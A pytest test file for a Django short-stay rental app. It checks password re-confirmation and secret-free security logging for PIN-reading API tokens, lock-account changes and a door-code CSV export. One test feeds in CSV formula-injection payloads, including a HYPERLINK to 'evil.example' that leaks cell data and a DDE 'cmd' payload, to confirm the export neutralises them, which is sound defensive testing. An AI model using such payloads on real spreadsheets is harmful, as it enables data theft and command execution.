"""Sensitive actions ask again (issue 16): creating an API token that reads PINs, disconnecting a
lock account and downloading the door codes (CSV) need the password confirmed recently
(accounts.reauth); unconfirmed, nothing is done. Each is written to the host's security log, as are
connecting a lock account and creating or revoking any API token; never with a secret in it."""

import csv
import io
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from freezegun import freeze_time

from accounts.models import SecurityEvent, SecurityEventKind
from bookings import services as booking_services
from bookings.api.models import ApiToken
from bookings.api.services import api_token_create
from bookings.exports import HEADER, spreadsheet_safe
from bookings.models import BookingStatus
from locks import services as lifecycle
from locks.models import AccountStatus, CodeState, ProviderAccount
from tests.helpers.lifecycle import current, tick
from tests.helpers.sessions import sign_in
from tests.vendors.ttlock import TTLockCloud

pytestmark = pytest.mark.django_db

CREATE_URL = "/settings/api-tokens/new/"
EXPORT_URL = "/bookings/codes/export.csv"
ADDRESS = "192.0.2.44"




def asked_to_confirm(response, back_to: str) -> bool:
    location = response["Location"]
    return (
        response.status_code == 302
        and location.startswith("/accounts/confirm/?")
        and parse_qs(urlsplit(location).query)["next"] == [back_to]
    )


def events(kind) -> list[SecurityEvent]:
    return list(SecurityEvent.objects.filter(kind=kind))


def no_secret_in_log(*secrets: str) -> bool:
    stored = " ".join(" ".join(map(str, row)) for row in SecurityEvent.objects.values_list("username", "user_agent", "detail"))
    return not any(secret and secret in stored for secret in secrets)


# --- an API token that reads PINs ----------------------------------------------------------------


class TestTokenThatReadsPins:
    def test_unconfirmed_it_goes_to_the_confirmation_and_creates_nothing(self, client, host):
        sign_in(client, host, confirmed=False)
        response = client.post(CREATE_URL, {"name": "Door-code PMS", "read_pins": "on", "expires_in": "30"})
        assert asked_to_confirm(response, f"{CREATE_URL}?name=Door-code+PMS&read_pins=on&expires_in=30")
        assert not ApiToken.objects.exists() and not events(SecurityEventKind.API_TOKEN_CREATED)

    def test_after_confirming_the_form_comes_back_as_it_was_and_creates_it(self, client, host):
        sign_in(client, host, confirmed=False)
        back_to = parse_qs(
            urlsplit(client.post(CREATE_URL, {"name": "Door-code PMS", "read_pins": "on", "expires_in": "30"})["Location"]).query
        )["next"][0]
        confirmed = client.post(reverse("accounts:confirm"), {"password": "host-password-123", "next": back_to})
        assert confirmed["Location"] == back_to
        form = client.get(back_to).content.decode()
        assert 'name="name" value="Door-code PMS"' in form and 'id="id_read_pins" checked' in form
        assert '<option value="30" selected>' in form
        response = client.post(CREATE_URL, {"name": "Door-code PMS", "read_pins": "on", "expires_in": "30"}, REMOTE_ADDR=ADDRESS)
        assert response.status_code == 200
        token = ApiToken.objects.get(host=host)
        assert token.read_pins and token.expires_at is not None
        (event,) = events(SecurityEventKind.API_TOKEN_CREATED)
        assert (event.user, event.ip_address) == (host, ADDRESS)
        assert event.detail.startswith("“Door-code PMS”: bookings, guests' PINs (read_pins); expires ")
        assert no_secret_in_log(response.context["plain_token"], token.token_hash, token.prefix)

    def test_without_read_pins_no_confirmation_is_needed(self, client, host):
        sign_in(client, host, confirmed=False)
        response = client.post(CREATE_URL, {"name": "Channel manager", "expires_in": "never"}, REMOTE_ADDR=ADDRESS)
        assert response.status_code == 200
        token = ApiToken.objects.get(host=host)
        assert not token.read_pins and token.expires_at is None
        (event,) = events(SecurityEventKind.API_TOKEN_CREATED)
        assert event.detail == "“Channel manager”: bookings (no PINs); never expires" and event.ip_address == ADDRESS
        assert no_secret_in_log(response.context["plain_token"])

    def test_a_confirmation_grows_stale(self, client, host, settings):
        with freeze_time("2026-06-10 08:00:00"):
            sign_in(client, host, confirmed=True)
        with freeze_time("2026-06-10 08:00:00") as clock:
            clock.tick(timedelta(seconds=settings.REAUTHENTICATION_MAX_AGE_SECONDS + 1))
            response = client.post(CREATE_URL, {"name": "PMS", "read_pins": "on"})
        assert response.status_code == 302 and response["Location"].startswith("/accounts/confirm/")
        assert not ApiToken.objects.exists()

    def test_revoking_is_logged(self, client, host):
        token, plain = api_token_create(host=host, name="Old PMS", read_pins=True)
        sign_in(client, host, confirmed=False)  # revoking takes access away: no confirmation needed
        response = client.post(f"/settings/api-tokens/{token.pk}/revoke/", REMOTE_ADDR=ADDRESS)
        assert response.status_code == 302
        client.post(f"/settings/api-tokens/{token.pk}/revoke/")  # a second press logs nothing more
        (event,) = events(SecurityEventKind.API_TOKEN_REVOKED)
        assert (event.user, event.ip_address, event.detail) == (host, ADDRESS, "“Old PMS”: bookings, guests' PINs (read_pins)")
        assert no_secret_in_log(plain)


# --- disconnecting a lock account ----------------------------------------------------------------


@pytest.fixture
def ttlock_account(make_lock, host):
    make_lock("L1", "ttlock")
    return ProviderAccount.objects.get(host=host, provider="ttlock")


DISCONNECT_URL = "/integrations/ttlock/disconnect/"


class TestDisconnect:
    def test_unconfirmed_the_confirmation_page_asks_first(self, client, host, ttlock_account):
        sign_in(client, host, confirmed=False)
        assert asked_to_confirm(client.get(DISCONNECT_URL), DISCONNECT_URL)

    def test_unconfirmed_the_post_disconnects_nothing(self, client, host, ttlock_account):
        sign_in(client, host, confirmed=False)
        assert asked_to_confirm(client.post(DISCONNECT_URL), DISCONNECT_URL)
        ttlock_account.refresh_from_db()
        assert ttlock_account.status == AccountStatus.CONNECTED and not events(SecurityEventKind.LOCK_ACCOUNT_DISCONNECTED)

    def test_an_htmx_request_is_sent_to_the_full_confirmation_page(self, client, host, ttlock_account):
        sign_in(client, host, confirmed=False)
        response = client.post(DISCONNECT_URL, headers={"HX-Request": "true"})
        assert response.status_code == 204 and response["HX-Redirect"].startswith("/accounts/confirm/?next=")
        ttlock_account.refresh_from_db()
        assert ttlock_account.status == AccountStatus.CONNECTED

    def test_confirmed_it_disconnects_and_is_logged(self, client, host, ttlock_account):
        sign_in(client, host, confirmed=True)
        assert client.get(DISCONNECT_URL).status_code == 200
        response = client.post(DISCONNECT_URL, REMOTE_ADDR=ADDRESS)
        assert response.status_code == 302
        ttlock_account.refresh_from_db()
        assert ttlock_account.status == AccountStatus.DISCONNECTED
        (event,) = events(SecurityEventKind.LOCK_ACCOUNT_DISCONNECTED)
        assert (event.user, event.ip_address) == (host, ADDRESS)
        assert event.detail == "TTLock account “ttlock account”: 0 upcoming codes revoked, 0 lock assignments removed"
        client.post(DISCONNECT_URL)  # nothing more to disconnect: nothing more logged
        assert len(events(SecurityEventKind.LOCK_ACCOUNT_DISCONNECTED)) == 1


# --- connecting a lock account ---------------------------------------------------------------------


class TestConnectIsLogged:
    PASSWORD = "correct horse battery staple"

    @pytest.fixture
    def ttlock_cloud(self, settings, monkeypatch):
        from locks.providers import registry
        from locks.providers.ttlock import TTLockProvider

        monkeypatch.setitem(registry.PROVIDER_CLASSES, "ttlock", TTLockProvider)
        settings.TTLOCK_API_URL = "https://euapi.ttlock.com"
        settings.TTLOCK_CLIENT_ID, settings.TTLOCK_CLIENT_SECRET = "tt-client-id-42", "tt-client-secret-42"
        cloud = TTLockCloud()
        cloud.add_user("ada@example.com", self.PASSWORD)
        cloud.add_lock(3001, "Front door")
        return cloud

    def test_a_connection_and_a_reconnection_are_logged_without_credentials(self, client, host, ttlock_cloud):
        sign_in(client, host, confirmed=False)
        form = {"username": "ada@example.com", "password": self.PASSWORD}
        with ttlock_cloud:
            assert client.post(reverse("locks:ttlock_connect"), form, REMOTE_ADDR=ADDRESS).status_code == 302
            assert client.post(reverse("locks:ttlock_connect"), form).status_code == 302
        first, again = reversed(events(SecurityEventKind.LOCK_ACCOUNT_CONNECTED))
        assert (first.user, first.ip_address) == (host, ADDRESS)
        account = ProviderAccount.objects.get(host=host, provider="ttlock")
        assert first.detail == f"TTLock account “{account.display_name}”"
        assert again.detail == f"TTLock account “{account.display_name}” (reconnected)"
        credentials = account.credentials
        assert no_secret_in_log(self.PASSWORD, credentials["access_token"], credentials["refresh_token"])

    def test_a_refused_sign_in_logs_no_connection(self, client, host, ttlock_cloud):
        sign_in(client, host, confirmed=False)
        with ttlock_cloud:
            response = client.post(reverse("locks:ttlock_connect"), {"username": "ada@example.com", "password": "wrong"})
        assert response.status_code == 400 and not events(SecurityEventKind.LOCK_ACCOUNT_CONNECTED)


# --- the door codes as a CSV file --------------------------------------------------------------------


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def bookings_with_codes(assigned_property, make_property, book, other_host, fake_cloud):
    """A Paris flat with a lock: a guest arriving tomorrow (code active), one in 30 days (code
    scheduled), a cancelled stay (code revoked), a stay that ended; another host's booking."""
    prop = assigned_property()
    today = timezone.localdate()
    soon = book(prop, today + timedelta(days=1), today + timedelta(days=3), guest_name="Ada Soon")
    later = book(prop, today + timedelta(days=30), today + timedelta(days=32), guest_name="Ben Later")
    cancelled = book(prop, today + timedelta(days=2), today + timedelta(days=4), guest_name="Cy Cancelled")
    gone = book(prop, today - timedelta(days=10), today - timedelta(days=7), guest_name="Di Gone")
    for booking in (soon, later, cancelled):
        lifecycle.booking_confirmed(booking=booking)
    tick()
    booking_services.booking_set_status(booking=cancelled, status=BookingStatus.CANCELLED)
    tick()
    theirs = make_property(host=other_host, name="Their Flat")
    book(theirs, today + timedelta(days=1), today + timedelta(days=2), guest_name="Eve Elsewhere")
    return {"prop": prop, "soon": soon, "later": later, "cancelled": cancelled, "gone": gone}


class TestCodesExport:
    def test_unconfirmed_it_asks_first_and_shows_nothing(self, client, host, bookings_with_codes):
        sign_in(client, host, confirmed=False)
        response = client.get(EXPORT_URL)
        assert asked_to_confirm(response, EXPORT_URL)
        assert current(bookings_with_codes["soon"]).pin not in response.content.decode()
        assert not events(SecurityEventKind.CODES_EXPORTED)

    def test_confirmed_it_downloads_the_hosts_current_and_upcoming_codes(self, client, host, bookings_with_codes):
        soon = bookings_with_codes["soon"]
        active = current(soon)
        assert active.state == CodeState.ACTIVE and active.pin
        sign_in(client, host, confirmed=True)
        response = client.get(EXPORT_URL, REMOTE_ADDR=ADDRESS)
        assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == f'attachment; filename="nowistay-codes-{timezone.now():%Y-%m-%d}.csv"'
        assert "no-store" in response["Cache-Control"]
        header, *rows = rows_of(response)
        assert header == HEADER
        by_guest = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
        assert set(by_guest) == {"Ada Soon", "Ben Later", "Cy Cancelled"}  # not the stay that ended, not another host's
        paris = ZoneInfo("Europe/Paris")
        starts, ends = (
            (active.lock_starts_at or active.starts_at).astimezone(paris),
            (active.lock_ends_at or active.ends_at).astimezone(paris),
        )
        assert by_guest["Ada Soon"] == {
            "Property": "Flat L1",
            "Guest": "Ada Soon",
            "Arrival": soon.arrival_date.isoformat(),
            "Departure": soon.departure_date.isoformat(),
            "Booking status": "Confirmed",
            "Code state": "active",
            "Valid from (property time)": f"{starts:%Y-%m-%d %H:%M}",
            "Valid until (property time)": f"{ends:%Y-%m-%d %H:%M}",
            "Time zone": "Europe/Paris",
            "PIN": active.pin,
            "First used (property time)": "",
            "Last used (property time)": "",
        }
        assert by_guest["Ben Later"]["Code state"] == "scheduled"
        revoked = by_guest["Cy Cancelled"]
        assert (revoked["Booking status"], revoked["Code state"], revoked["PIN"]) == ("Cancelled", "revoked", "")
        (event,) = events(SecurityEventKind.CODES_EXPORTED)
        assert (event.user, event.ip_address, event.detail) == (host, ADDRESS, "3 current and upcoming booking(s), CSV")
        assert no_secret_in_log(active.pin)

    def test_another_host_sees_only_their_own(self, client, other_host, bookings_with_codes):
        sign_in(client, other_host, confirmed=True)
        header, *rows = rows_of(client.get(EXPORT_URL))
        assert [row[1] for row in rows] == ["Eve Elsewhere"]
        assert rows[0][-1] == "" and rows[0][5] == "no code"

    def test_cells_a_spreadsheet_would_run_are_neutralised(self, client, host, make_property, book):
        today = timezone.localdate()
        prop = make_property(name="@SUM(1+1)*cmd|' /C calc'!A0")
        names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@A1", "Plain Guest"]
        for n, name in enumerate(names):
            book(prop, today + timedelta(days=n + 1), today + timedelta(days=n + 2), guest_name=name)
        sign_in(client, host, confirmed=True)
        header, *rows = rows_of(client.get(EXPORT_URL))
        assert {row[0] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
        assert [row[1] for row in rows] == ["'" + name for name in names[:-1]] + ["Plain Guest"]

    @pytest.mark.parametrize(
        "cell, safe",
        [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
         ("\uff1d1+1", "'\uff1d1+1"), ("1234", "1234"), ("Ada = admin", "Ada = admin"), ("", "")],
    )
    def test_spreadsheet_safe(self, cell, safe):
        assert spreadsheet_safe(cell) == safe

    def test_the_codes_page_offers_the_download(self, client, host, bookings_with_codes):
        sign_in(client, host, confirmed=False)
        page = client.get(reverse("bookings:codes")).content.decode()
        assert f'<a class="button secondary" href="{EXPORT_URL}">Download codes (CSV)</a>' in page

    def test_signed_out_it_asks_to_sign_in(self, client):
        response = client.get(EXPORT_URL)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
